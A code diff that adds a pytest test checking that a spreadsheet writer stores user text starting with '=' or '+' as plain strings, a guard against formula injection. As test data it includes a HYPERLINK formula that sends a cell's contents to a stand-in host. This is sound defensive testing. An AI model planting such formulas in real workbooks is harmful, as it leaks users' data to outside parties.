@@ -44,3 +44,17 @@ def test_invalid_sheets_are_refused(tmp_path):
         write_xlsx(tmp_path / "a.xlsx", [Sheet("A", COLUMNS, []), Sheet("a", COLUMNS, [])])
     with pytest.raises(KeyError, match="row 1: no value for column 'note'"):
         write_xlsx(tmp_path / "a.xlsx", [Sheet("A", COLUMNS, [{"item": "MP", "value": 1}])])
+
+
+def test_user_text_is_never_a_formula(tmp_path):
+    """A note that starts with "=" (or a heading, a header) is written as text: opening the
+    workbook must not run it (formula injection)."""
+    evil = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
+    path = write_xlsx(tmp_path / "x.xlsx", [Sheet("S", [Column("note", "=CMD()"), Column("n", "n", places=0)],
+                                                  [{"note": evil, "n": 3}, {"note": "+1+1", "n": 4}],
+                                                  heading="=1+1", notes=["=2+2"])])
+    ws = load_workbook(path)["S"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert ws["A4"].value == evil and ws["A4"].data_type == "s" and ws["A1"].value == "=1+1"
+    assert ws["B4"].value == 3 and ws["B4"].data_type == "n"
